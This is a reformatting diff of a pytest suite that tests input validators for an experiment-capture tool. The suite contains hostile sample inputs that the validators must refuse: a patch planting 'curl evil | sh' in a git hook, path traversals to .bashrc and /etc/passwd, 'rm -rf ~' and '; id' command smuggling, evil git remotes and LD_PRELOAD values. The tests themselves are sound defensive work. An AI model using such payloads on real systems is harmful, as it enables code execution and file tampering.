@@ -60,12 +60,18 @@ STRICT_VALIDATORS: dict[str, tuple[str, Callable[[Any], Any]]] = {
     "version": ("packages[0].version", lambda x: v.version(x, "packages[0].version")),
     "vcs_commit": ("git.commit", lambda x: v.vcs_commit(x, "git.commit")),
     "image_tag": ("image", lambda x: v.image_tag(x, "image")),
-    "apt_package_name": ("system_packages[0].name",
-                         lambda x: v.apt_package_name(x, "system_packages[0].name")),
-    "apt_version": ("system_packages[0].version",
-                    lambda x: v.apt_version(x, "system_packages[0].version")),
-    "url": ("git.remote",
-            lambda x: v.url("git.remote", "https://example.org/" + x, v.REMOTE_SCHEMES)),
+    "apt_package_name": (
+        "system_packages[0].name",
+        lambda x: v.apt_package_name(x, "system_packages[0].name"),
+    ),
+    "apt_version": (
+        "system_packages[0].version",
+        lambda x: v.apt_version(x, "system_packages[0].version"),
+    ),
+    "url": (
+        "git.remote",
+        lambda x: v.url("git.remote", "https://example.org/" + x, v.REMOTE_SCHEMES),
+    ),
     "relpath": ("outputs[0].path", lambda x: v.relpath("outputs[0].path", x)),
     "experiment_name": ("name", lambda x: v.experiment_name(x, "name")),
     "git_ref": ("git.branch", lambda x: v.git_ref(x, "git.branch")),
@@ -73,8 +79,17 @@ STRICT_VALIDATORS: dict[str, tuple[str, Callable[[Any], Any]]] = {
 }
 
 #: Grammars for single tokens refuse whitespace too (names and paths may hold inner spaces).
-TOKEN_VALIDATORS = ("package_name", "version", "vcs_commit", "image_tag", "apt_package_name",
-                    "apt_version", "url", "git_ref", "env_var name")
+TOKEN_VALIDATORS = (
+    "package_name",
+    "version",
+    "vcs_commit",
+    "image_tag",
+    "apt_package_name",
+    "apt_version",
+    "url",
+    "git_ref",
+    "env_var name",
+)
 
 
 @pytest.mark.parametrize("value", INJECTIONS)
@@ -93,8 +108,20 @@ def test_tokens_refuse_whitespace(kind: str, value: str) -> None:
         check(value)
 
 
-@pytest.mark.parametrize("value", ["x\ny", "x\x00y", "x\u2028y", "x\u202ey", "x\x1b[2Jy", "x\x7fy",
-                                   "x\x85y", "x\u2029y", "x\ufeffy"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "x\ny",
+        "x\x00y",
+        "x\u2028y",
+        "x\u202ey",
+        "x\x1b[2Jy",
+        "x\x7fy",
+        "x\x85y",
+        "x\u2029y",
+        "x\ufeffy",
+    ],
+)
 def test_command_refuses_hidden_characters_but_keeps_shell_syntax(value: str) -> None:
     with pytest.raises(ValidationError) as err:
         v.command("python train.py " + value, "command")
@@ -134,8 +161,18 @@ def test_relpath_refusals_name_the_field_and_reason(value: str, reason: str) -> 
     assert "fix:" in str(err.value)
 
 
-@pytest.mark.parametrize("value", ["model.pkl", "data/prepared/train.csv", "données/été.csv",
-                                   "outputs/2024-01-01/run_1+a@b=c,d~e.json", "dir/", ".", "a b/c"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "model.pkl",
+        "data/prepared/train.csv",
+        "données/été.csv",
+        "outputs/2024-01-01/run_1+a@b=c,d~e.json",
+        "dir/",
+        ".",
+        "a b/c",
+    ],
+)
 def test_relpath_accepts_ordinary_paths(value: str) -> None:
     assert v.relpath("p", value) == value
 
@@ -174,8 +211,9 @@ def test_checked_file_refuses_oversize_and_non_files(tmp_path: Path) -> None:
     (tmp_path / "big.json").write_bytes(b"x" * 2048)
     (tmp_path / "dir").mkdir()
     assert v.checked_file(tmp_path, "small.json", "f", 1024).name == "small.json"
-    with refuses(ValidationError, field="metrics file",
-                 names=["'big.json'", "over the 1024 byte limit"]):
+    with refuses(
+        ValidationError, field="metrics file", names=["'big.json'", "over the 1024 byte limit"]
+    ):
         v.checked_file(tmp_path, "big.json", "metrics file", 1024)
     with refuses(ValidationError, field="metrics file", names=["'dir'", "not a regular file"]):
         v.checked_file(tmp_path, "dir", "metrics file", 1024)
@@ -184,35 +222,68 @@ def test_checked_file_refuses_oversize_and_non_files(tmp_path: Path) -> None:
 # --------------------------------------------------------------------------- each grammar
 
 
-@pytest.mark.parametrize("value", ["numpy", "scikit-learn", "zope.interface", "typing_extensions",
-                                   "A", "torch"])
+@pytest.mark.parametrize(
+    "value", ["numpy", "scikit-learn", "zope.interface", "typing_extensions", "A", "torch"]
+)
 def test_package_name_accepts(value: str) -> None:
     assert v.package_name(value) == value
 
 
-@pytest.mark.parametrize("value", ["-numpy", "numpy-", "num py", "numpy==1.0", "numpy; os_name",
-                                   "numpy @ https://x", "nümpy", "numpy\n", "a" * 201])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "-numpy",
+        "numpy-",
+        "num py",
+        "numpy==1.0",
+        "numpy; os_name",
+        "numpy @ https://x",
+        "nümpy",
+        "numpy\n",
+        "a" * 201,
+    ],
+)
 def test_package_name_refuses(value: str) -> None:
     with refuses(ValidationError, field="package name"):
         v.package_name(value)
 
 
-@pytest.mark.parametrize("value", ["1.26.4", "2.4.0+cu121", "1!2.0", "1.0rc1", "1.0.post1.dev2",
-                                   "2.11.0.dev20260114+cu130", "0.1.0+local.build_3"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "1.26.4",
+        "2.4.0+cu121",
+        "1!2.0",
+        "1.0rc1",
+        "1.0.post1.dev2",
+        "2.11.0.dev20260114+cu130",
+        "0.1.0+local.build_3",
+    ],
+)
 def test_version_accepts_pep440(value: str) -> None:
     assert v.version(value) == value
 
 
-@pytest.mark.parametrize("value", [" 1.0", "1.0 ", "1.0\n", "1.0; rm", "1.0,<2", "==1.0", "latest",
-                                   "1.0-beta-weird-", ""])
+@pytest.mark.parametrize(
+    "value",
+    [" 1.0", "1.0 ", "1.0\n", "1.0; rm", "1.0,<2", "==1.0", "latest", "1.0-beta-weird-", ""],
+)
 def test_version_refuses(value: str) -> None:
     with refuses(ValidationError, field="packages[numpy].version"):
         v.version(value, "packages[numpy].version")
 
 
-@pytest.mark.parametrize("value", ["git@github.com:org/repo.git", "https://github.com/org/repo.git",
-                                   "ssh://git@host:2222/org/repo", "file:///srv/git/repo.git",
-                                   "https://[::1]:8443/x", "git://host/repo"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "git@github.com:org/repo.git",
+        "https://github.com/org/repo.git",
+        "ssh://git@host:2222/org/repo",
+        "file:///srv/git/repo.git",
+        "https://[::1]:8443/x",
+        "git://host/repo",
+    ],
+)
 def test_remote_urls_accepted(value: str) -> None:
     assert v.url("git.remote", value, v.REMOTE_SCHEMES, allow_scp=True) == value
 
@@ -255,25 +326,54 @@ def test_vcs_commit_refuses(value: str) -> None:
         v.vcs_commit(value, "git.commit")
 
 
-@pytest.mark.parametrize("value", [
-    "python:3.11.7-slim-bookworm", "reprobox/abc123def456:latest", "localhost:5000/a/b:1.0",
-    "registry.example.org:443/team/img@sha256:" + "a" * 64, "nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04",
-    "a__b/c---d:x", "[::1]:5000/img",
-])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "python:3.11.7-slim-bookworm",
+        "reprobox/abc123def456:latest",
+        "localhost:5000/a/b:1.0",
+        "registry.example.org:443/team/img@sha256:" + "a" * 64,
+        "nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04",
+        "a__b/c---d:x",
+        "[::1]:5000/img",
+    ],
+)
 def test_image_tag_accepts(value: str) -> None:
     assert v.image_tag(value) == value
 
 
-@pytest.mark.parametrize("value", ["Python:3.11", "img:", "img:-tag", "img:" + "t" * 129, ":tag",
-                                   "a/-b", "img@sha256:short", "img:tag --privileged", "a//b",
-                                   "a" * 256 + ":1"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "Python:3.11",
+        "img:",
+        "img:-tag",
+        "img:" + "t" * 129,
+        ":tag",
+        "a/-b",
+        "img@sha256:short",
+        "img:tag --privileged",
+        "a//b",
+        "a" * 256 + ":1",
+    ],
+)
 def test_image_tag_refuses(value: str) -> None:
     with refuses(ValidationError, field="image"):
         v.image_tag(value, "image")
 
 
-@pytest.mark.parametrize("value", ["2.36-9+deb12u4", "1:2.3.4-1ubuntu1~22.04", "0.3.21+ds-4",
-                                   "12.2.0-14+deb12u1", "3.0.11-1~deb12u2", "1.2", "2:1.0~rc1"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "2.36-9+deb12u4",
+        "1:2.3.4-1ubuntu1~22.04",
+        "0.3.21+ds-4",
+        "12.2.0-14+deb12u1",
+        "3.0.11-1~deb12u2",
+        "1.2",
+        "2:1.0~rc1",
+    ],
+)
 def test_apt_version_accepts(value: str) -> None:
     assert v.apt_version(value) == value
 
@@ -284,7 +384,9 @@ def test_apt_version_refuses(value: str) -> None:
         v.apt_version(value)
 
 
-@pytest.mark.parametrize("value", ["libc6", "libopenblas0-pthread", "libstdc++6", "g++-12", "x11-common"])
+@pytest.mark.parametrize(
+    "value", ["libc6", "libopenblas0-pthread", "libstdc++6", "g++-12", "x11-common"]
+)
 def test_apt_package_name_accepts(value: str) -> None:
     assert v.apt_package_name(value) == value
 
@@ -304,8 +406,19 @@ def test_system_package_dispatches_on_manager() -> None:
         v.system_package("dpkg", "libc6", "2.36;id", "system_packages[2]")
 
 
-@pytest.mark.parametrize("name", ["LD_PRELOAD", "LD_LIBRARY_PATH", "BASH_ENV", "PYTHONSTARTUP", "PATH",
-                                  "PIP_INDEX_URL", "GIT_SSH_COMMAND", "IFS"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "LD_PRELOAD",
+        "LD_LIBRARY_PATH",
+        "BASH_ENV",
+        "PYTHONSTARTUP",
+        "PATH",
+        "PIP_INDEX_URL",
+        "GIT_SSH_COMMAND",
+        "IFS",
+    ],
+)
 def test_env_var_refuses_loader_and_shell_hooks(name: str) -> None:
     with refuses(ValidationError, field=f"env.{name}", names="a capture may not set it"):
         v.env_var(name, "x")
@@ -318,9 +431,17 @@ def test_env_var_refuses_an_exported_bash_function_by_its_name() -> None:
         v.env_var("BASH_FUNC_x%%", "() { id; }")
 
 
-@pytest.mark.parametrize(("name", "value", "field"),
-                         [("1X", "1", "env name"), ("A-B", "1", "env name"), ("A", "1\n2", "env.A"),
-                          ("A", "\x00", "env.A"), ("A", 3, "env.A"), (5, "1", "env name")])
+@pytest.mark.parametrize(
+    ("name", "value", "field"),
+    [
+        ("1X", "1", "env name"),
+        ("A-B", "1", "env name"),
+        ("A", "1\n2", "env.A"),
+        ("A", "\x00", "env.A"),
+        ("A", 3, "env.A"),
+        (5, "1", "env name"),
+    ],
+)
 def test_env_var_refuses_bad_names_and_values(name: Any, value: Any, field: str) -> None:
     with refuses(ValidationError, field=field):
         v.env_var(name, value)
@@ -333,14 +454,17 @@ def test_env_var_accepts_replayable_values() -> None:
     v.env_var("PYTHONHASHSEED", "")
 
 
-@pytest.mark.parametrize("value", ["baseline", "lr=0.1, bs=32", "run #3 (retry)", "Ölçüm-1",
-                                   "résumé_v2", "v1.2+cu121"])
+@pytest.mark.parametrize(
+    "value", ["baseline", "lr=0.1, bs=32", "run #3 (retry)", "Ölçüm-1", "résumé_v2", "v1.2+cu121"]
+)
 def test_experiment_name_accepts(value: str) -> None:
     assert v.experiment_name(value) == value
 
 
-@pytest.mark.parametrize("value", ["latest", "", " lead", "trail ", "-x", "a/b", "a$b", "a'b", "a\nb",
-                                   "x" * 101, "a\u202eb"])
+@pytest.mark.parametrize(
+    "value",
+    ["latest", "", " lead", "trail ", "-x", "a/b", "a$b", "a'b", "a\nb", "x" * 101, "a\u202eb"],
+)
 def test_experiment_name_refuses(value: str) -> None:
     with refuses(ValidationError, field="name"):
         v.experiment_name(value, "name")
@@ -351,7 +475,9 @@ def test_git_ref_accepts(value: str) -> None:
     assert v.git_ref(value) == value
 
 
-@pytest.mark.parametrize("value", ["-f", "a..b", "a/", "a.lock", "a@{1}", "a/.b", "a b", "a~1", "a^"])
+@pytest.mark.parametrize(
+    "value", ["-f", "a..b", "a/", "a.lock", "a@{1}", "a/.b", "a b", "a~1", "a^"]
+)
 def test_git_ref_refuses(value: str) -> None:
     with refuses(ValidationError, field="branch"):
         v.git_ref(value)
@@ -365,8 +491,18 @@ def test_label_value_refuses_dockerfile_syntax() -> None:
 
 
 def test_validators_refuse_non_strings_with_the_field_named() -> None:
-    for fn in (v.package_name, v.version, v.vcs_commit, v.image_tag, v.apt_package_name,
-               v.apt_version, v.command, v.experiment_name, v.label_value, v.git_ref):
+    for fn in (
+        v.package_name,
+        v.version,
+        v.vcs_commit,
+        v.image_tag,
+        v.apt_package_name,
+        v.apt_version,
+        v.command,
+        v.experiment_name,
+        v.label_value,
+        v.git_ref,
+    ):
         for value in (None, 3, ["x"], b"numpy", {"a": 1}):
             with refuses(ValidationError, field="the.field", names="expected a string"):
                 fn(value, "the.field")
@@ -388,8 +524,12 @@ def test_every_installed_distribution_passes() -> None:
 
 def test_every_installed_debian_package_passes() -> None:
     require_tool("dpkg-query", "dpkg (a Debian-family system)")
-    out = subprocess.run(["dpkg-query", "-W", "-f", "${Package}\t${Version}\t${Architecture}\n"],
-                         capture_output=True, text=True, check=True).stdout
+    out = subprocess.run(
+        ["dpkg-query", "-W", "-f", "${Package}\t${Version}\t${Architecture}\n"],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout
     rows = [line.split("\t") for line in out.splitlines() if line]
     for name, ver, arch in rows:
         v.system_package("dpkg", name, ver, f"system package {name}")
@@ -401,10 +541,16 @@ def test_every_installed_debian_package_passes() -> None:
 
 
 def _git(repo: Path, *args: str) -> str:
-    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
-           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"}
-    return subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, check=True,
-                          text=True).stdout
+    env = {
+        **os.environ,
+        "GIT_AUTHOR_NAME": "t",
+        "GIT_AUTHOR_EMAIL": "t@example.org",
+        "GIT_COMMITTER_NAME": "t",
+        "GIT_COMMITTER_EMAIL": "t@example.org",
+    }
+    return subprocess.run(
+        ["git", *args], cwd=repo, env=env, capture_output=True, check=True, text=True
+    ).stdout
 
 
 def test_patch_targets_of_a_real_git_diff(tmp_path: Path) -> None:
@@ -426,20 +572,38 @@ def test_patch_targets_of_a_real_git_diff(tmp_path: Path) -> None:
     _git(repo, "add", "-A")
     patch = _git(repo, "diff", "--cached", "--binary", "HEAD")
     assert "rename from old name.txt" in patch and '"b/t\\303\\251st.py"' in patch
-    assert set(patch_targets(patch)) == {"blob.bin", "new name.txt", "old name.txt", "run.sh",
-                                           "train.py", "tést.py"}
+    assert set(patch_targets(patch)) == {
+        "blob.bin",
+        "new name.txt",
+        "old name.txt",
+        "run.sh",
+        "train.py",
+        "tést.py",
+    }
 
 
 @pytest.mark.parametrize(
     ("patch", "reason"),
     [
-        (("diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n"
-         "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"), ".git"),
-        (("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n--- a/../../.bashrc\n+++ b/../../.bashrc\n"
-         "@@ -1 +1 @@\n-a\n+b\n"), ".."),
+        (
+            (
+                "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n"
+                "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"
+            ),
+            ".git",
+        ),
+        (
+            (
+                "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n--- a/../../.bashrc\n+++ b/../../.bashrc\n"
+                "@@ -1 +1 @@\n-a\n+b\n"
+            ),
+            "..",
+        ),
         ("--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", "absolute"),
-        ("diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc\n",
-         "symbolic link"),
+        (
+            "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc\n",
+            "symbolic link",
+        ),
         ("diff --git a/x b/x\nrename from x\nrename to ../x\n", ".."),
         ('diff --git "a/x\\ny" "b/x\\ny"\n', "control character"),
         ("--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-a\n+b\nzzz\n", "malformed"),
@@ -469,8 +633,9 @@ def test_a_clean_capture_passes(tmp_path: Path) -> None:
 def _pkg(**changes: Any) -> Any:
     """make_env() with its numpy package changed."""
     env = make_env()
-    return replace(env, packages=tuple(replace(p, **changes) if p.name == "numpy" else p
-                                       for p in env.packages))
+    return replace(
+        env, packages=tuple(replace(p, **changes) if p.name == "numpy" else p for p in env.packages)
+    )
 
 
 HOSTILE_EXPERIMENTS: list[tuple[str, Callable[[Any], Any], str]] = [
@@ -478,28 +643,43 @@ HOSTILE_EXPERIMENTS: list[tuple[str, Callable[[Any], Any], str]] = [
     ("command", lambda e: replace(e, command="python a.py\nrm -rf ~"), "command"),
     ("cwd", lambda e: replace(e, cwd="../.."), "cwd"),
     ("metrics file", lambda e: replace(e, metrics={"/etc/shadow": {"a": 1}}), "metrics file"),
-    ("metrics key", lambda e: replace(e, metrics={"m.json": {"a\x1b[2J": 1}}), "metrics[m.json] key"),
-    ("output", lambda e: replace(e, outputs=(OutputFile(".git/config", "0" * 64, 1),)),
-     "outputs[0].path"),
-    ("dvc output", lambda e: replace(e, dvc=DvcInfo(outputs=(DvcOutput("../data", "a" * 32),))),
-     "dvc.outputs[0].path"),
+    (
+        "metrics key",
+        lambda e: replace(e, metrics={"m.json": {"a\x1b[2J": 1}}),
+        "metrics[m.json] key",
+    ),
+    (
+        "output",
+        lambda e: replace(e, outputs=(OutputFile(".git/config", "0" * 64, 1),)),
+        "outputs[0].path",
+    ),
+    (
+        "dvc output",
+        lambda e: replace(e, dvc=DvcInfo(outputs=(DvcOutput("../data", "a" * 32),))),
+        "dvc.outputs[0].path",
+    ),
     ("patch name", lambda e: replace(e, git=replace(e.git, patch="../patch.diff")), "git.patch"),
     ("commit", lambda e: replace(e, git=replace(e.git, commit="HEAD; id")), "git.commit"),
     ("branch", lambda e: replace(e, git=replace(e.git, branch="--upload-pack=evil")), "git.branch"),
     ("remote", lambda e: replace(e, git=replace(e.git, remote="ext::sh -c evil")), "git.remote"),
     ("env", lambda e: replace(e, env={"LD_PRELOAD": "/tmp/x.so"}), "env.LD_PRELOAD"),
-    ("env value", lambda e: replace(e, env={"OMP_NUM_THREADS": "4\nexport X=1"}),
-     "env.OMP_NUM_THREADS"),
+    (
+        "env value",
+        lambda e: replace(e, env={"OMP_NUM_THREADS": "4\nexport X=1"}),
+        "env.OMP_NUM_THREADS",
+    ),
     ("supersedes", lambda e: replace(e, supersedes="../../etc"), "supersedes"),
     ("manifest name", lambda e: replace(e, files={"../x": "sha256:" + "0" * 64}), "files"),
     ("manifest digest", lambda e: replace(e, files={"x.lock": "md5:00"}), "files[x.lock]"),
 ]
 
 
-@pytest.mark.parametrize(("what", "mutate", "field"), HOSTILE_EXPERIMENTS,
-                         ids=[h[0] for h in HOSTILE_EXPERIMENTS])
-def test_hostile_experiment_fields_are_refused(what: str, mutate: Callable[[Any], Any],
-                                               field: str) -> None:
+@pytest.mark.parametrize(
+    ("what", "mutate", "field"), HOSTILE_EXPERIMENTS, ids=[h[0] for h in HOSTILE_EXPERIMENTS]
+)
+def test_hostile_experiment_fields_are_refused(
+    what: str, mutate: Callable[[Any], Any], field: str
+) -> None:
     env = make_env()
     exp = mutate(make_exp(env))
     with refuses(ValidationError, field=field):
@@ -509,30 +689,62 @@ def test_hostile_experiment_fields_are_refused(what: str, mutate: Callable[[Any]
 HOSTILE_ENVIRONMENTS: list[tuple[str, Any, str]] = [
     ("package name", _pkg(name="numpy\n--index-url https://evil"), "packages[1].name"),
     ("package version", _pkg(version="1.0 --hash=sha256:x"), "packages[numpy].version"),
-    ("vcs url", _pkg(source=PackageSource("vcs", url="https://u:p@github.com/x", vcs="git",
-                                          commit="a" * 40)), "packages[numpy].source.url"),
-    ("vcs commit", _pkg(source=PackageSource("vcs", url="https://github.com/x", vcs="git",
-                                             commit="main")), "packages[numpy].source.commit"),
-    ("editable path", _pkg(source=PackageSource("directory", path="../../outside", in_repo=True,
-                                                editable=True)), "packages[numpy].source.path"),
-    ("archive url", _pkg(source=PackageSource("archive", url="https://h/x.whl;id")),
-     "packages[numpy].source.url"),
+    (
+        "vcs url",
+        _pkg(
+            source=PackageSource("vcs", url="https://u:p@github.com/x", vcs="git", commit="a" * 40)
+        ),
+        "packages[numpy].source.url",
+    ),
+    (
+        "vcs commit",
+        _pkg(source=PackageSource("vcs", url="https://github.com/x", vcs="git", commit="main")),
+        "packages[numpy].source.commit",
+    ),
+    (
+        "editable path",
+        _pkg(source=PackageSource("directory", path="../../outside", in_repo=True, editable=True)),
+        "packages[numpy].source.path",
+    ),
+    (
+        "archive url",
+        _pkg(source=PackageSource("archive", url="https://h/x.whl;id")),
+        "packages[numpy].source.url",
+    ),
     ("wheel tag", _pkg(wheel_tags=("cp311-cp311-linux\nRUN id",)), "packages[numpy].wheel_tags[0]"),
-    ("system package", replace(make_env(), system_packages=(SystemPackage("libc6 && id", "1"),)),
-     "system_packages[0].name"),
-    ("codename", replace(make_env(), os=replace(make_env().os, codename="bookworm AS x")),
-     "os.codename"),
-    ("python version", replace(make_env(), interpreter=replace(make_env().interpreter,
-                                                               version="3.11-slim\nRUN id")),
-     "interpreter.version"),
-    ("cuda", replace(make_env(), hardware=Hardware(cuda_runtime="12.4 ; id")), "hardware.cuda_runtime"),
-    ("gpu name", replace(make_env(), hardware=Hardware(gpus=(GPU("H100\x1b]0;pwn\x07"),))),
-     "hardware.gpus[0].name"),
+    (
+        "system package",
+        replace(make_env(), system_packages=(SystemPackage("libc6 && id", "1"),)),
+        "system_packages[0].name",
+    ),
+    (
+        "codename",
+        replace(make_env(), os=replace(make_env().os, codename="bookworm AS x")),
+        "os.codename",
+    ),
+    (
+        "python version",
+        replace(
+            make_env(), interpreter=replace(make_env().interpreter, version="3.11-slim\nRUN id")
+        ),
+        "interpreter.version",
+    ),
+    (
+        "cuda",
+        replace(make_env(), hardware=Hardware(cuda_runtime="12.4 ; id")),
+        "hardware.cuda_runtime",
+    ),
+    (
+        "gpu name",
+        replace(make_env(), hardware=Hardware(gpus=(GPU("H100\x1b]0;pwn\x07"),))),
+        "hardware.gpus[0].name",
+    ),
 ]
 
 
-@pytest.mark.parametrize(("what", "env", "field"), HOSTILE_ENVIRONMENTS,
-                         ids=[h[0] for h in HOSTILE_ENVIRONMENTS])
+@pytest.mark.parametrize(
+    ("what", "env", "field"), HOSTILE_ENVIRONMENTS, ids=[h[0] for h in HOSTILE_ENVIRONMENTS]
+)
 def test_hostile_environment_fields_are_refused(what: str, env: Any, field: str) -> None:
     exp = make_exp(env)
     with refuses(ValidationError, field=field):
@@ -547,7 +759,9 @@ def test_folder_checks_refuse_symlinks_oversize_and_bad_patches(tmp_path: Path) 
     stored = store.save(exp, env, {"patch.diff": "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"})
     check.validate_experiment(stored.experiment, stored.environment, folder=stored.path)
 
-    (stored.path / "patch.diff").write_text("--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-a\n+b\n")
+    (stored.path / "patch.diff").write_text(
+        "--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-a\n+b\n"
+    )
     with refuses(ValidationError, field="git.patch (line 1) path", names=".git/config"):
         check.validate_experiment(stored.experiment, stored.environment, folder=stored.path)
 
@@ -570,18 +784,40 @@ def test_folder_checks_refuse_symlinks_oversize_and_bad_patches(tmp_path: Path) 
 
 #: Text with the characters that matter drawn often: controls, separators, bidi, surrogates.
 TEXT = st.text(
-    st.sampled_from(list("\x00\n\r\t\x1b\x7f\x85\u2028\u2029\u202e\u200b\ufeff\ud800/.\\-_~$`;|&<>\"' ")
-                    + ["a", "1", "é"])
+    st.sampled_from(
+        list("\x00\n\r\t\x1b\x7f\x85\u2028\u2029\u202e\u200b\ufeff\ud800/.\\-_~$`;|&<>\"' ")
+        + ["a", "1", "é"]
+    )
     | st.characters(codec=None, exclude_categories=()),
     max_size=40,
 )
 ANYTHING = TEXT | st.none() | st.integers() | st.binary(max_size=8) | st.lists(TEXT, max_size=2)
 
-ONE_ARG = [v.package_name, v.version, v.vcs_commit, v.image_tag, v.apt_package_name, v.apt_version,
-           v.apt_arch, v.command, v.experiment_name, v.label_value, v.git_ref, v.wheel_tag,
-           v.archive_hash, v.sha256_hex, v.digest, v.experiment_id, v.installer]
-FIELD_FIRST = [v.relpath, v.local_path, v.clean_text,
-               lambda f, x: v.url(f, x, v.VCS_SCHEMES, allow_scp=True)]
+ONE_ARG = [
+    v.package_name,
+    v.version,
+    v.vcs_commit,
+    v.image_tag,
+    v.apt_package_name,
+    v.apt_version,
+    v.apt_arch,
+    v.command,
+    v.experiment_name,
+    v.label_value,
+    v.git_ref,
+    v.wheel_tag,
+    v.archive_hash,
+    v.sha256_hex,
+    v.digest,
+    v.experiment_id,
+    v.installer,
+]
+FIELD_FIRST = [
+    v.relpath,
+    v.local_path,
+    v.clean_text,
+    lambda f, x: v.url(f, x, v.VCS_SCHEMES, allow_scp=True),
+]
 
 FORBIDDEN = {"Cc", "Cf", "Cs", "Zl", "Zp"}
 
@@ -656,9 +892,25 @@ def test_env_var_property(name: Any, value: Any) -> None:
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.lists(st.sampled_from([*"ab/.\n\"\\ @-+", "diff --git ", "--- ", "+++ ", "@@ -1 +1 @@",
-                                 "rename to ", "new file mode 120000", ".git", "..", "\\n"]),
-                max_size=30).map("".join))
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                *'ab/.\n"\\ @-+',
+                "diff --git ",
+                "--- ",
+                "+++ ",
+                "@@ -1 +1 @@",
+                "rename to ",
+                "new file mode 120000",
+                ".git",
+                "..",
+                "\\n",
+            ]
+        ),
+        max_size=30,
+    ).map("".join)
+)
 def test_patch_targets_property(text: str) -> None:
     try:
         targets = patch_targets(text)
@@ -688,27 +940,39 @@ def test_a_real_fingerprint_of_this_interpreter_passes(tmp_path: Path) -> None:
     check.validate_experiment(make_exp(env), env)
 
 
-@pytest.mark.parametrize(("changes", "field"), [
-    ({"created": "2026-01-01T00:00:00Z\nLABEL x=y"}, "created"),
-    ({"created": "yesterday"}, "created"),
-    ({"tool_version": "0.1.0 && id"}, "tool_version"),
-])
+@pytest.mark.parametrize(
+    ("changes", "field"),
+    [
+        ({"created": "2026-01-01T00:00:00Z\nLABEL x=y"}, "created"),
+        ({"created": "yesterday"}, "created"),
+        ({"tool_version": "0.1.0 && id"}, "tool_version"),
+    ],
+)
 def test_record_metadata_grammars(changes: dict, field: str) -> None:
     env = make_env()
     with refuses(ValidationError, field=field):
         check.validate_experiment(replace(make_exp(env), **changes), env)
-    check.validate_experiment(replace(make_exp(env), created="2026-01-01T00:00:00.5+02:00",
-                                  tool_version="unknown"), env)
+    check.validate_experiment(
+        replace(make_exp(env), created="2026-01-01T00:00:00.5+02:00", tool_version="unknown"), env
+    )
 
 
 def test_dvc_output_hashes_by_kind() -> None:
     env = make_env()
-    ok = DvcInfo(outputs=(DvcOutput("data/prepared", "a" * 32 + ".dir", "md5", "prepare"),
-                          DvcOutput("model.pkl", "b" * 32, "md5-dos2unix"),
-                          DvcOutput("s3data", "3/L4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+MTRCxf3vjVBH40Nr8X8gdRQ",
-                                    "version_id")))
+    ok = DvcInfo(
+        outputs=(
+            DvcOutput("data/prepared", "a" * 32 + ".dir", "md5", "prepare"),
+            DvcOutput("model.pkl", "b" * 32, "md5-dos2unix"),
+            DvcOutput(
+                "s3data", "3/L4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+MTRCxf3vjVBH40Nr8X8gdRQ", "version_id"
+            ),
+        )
+    )
     check.validate_experiment(replace(make_exp(env), dvc=ok), env)
-    for bad in (DvcOutput("m", "zz" * 16, "md5"), DvcOutput("m", "x\ny", "etag"),
-                DvcOutput("m", "a" * 32, "md5; id")):
+    for bad in (
+        DvcOutput("m", "zz" * 16, "md5"),
+        DvcOutput("m", "x\ny", "etag"),
+        DvcOutput("m", "a" * 32, "md5; id"),
+    ):
         with refuses(ValidationError, field_prefix="dvc.outputs[0].hash"):
             check.validate_experiment(replace(make_exp(env), dvc=DvcInfo(outputs=(bad,))), env)
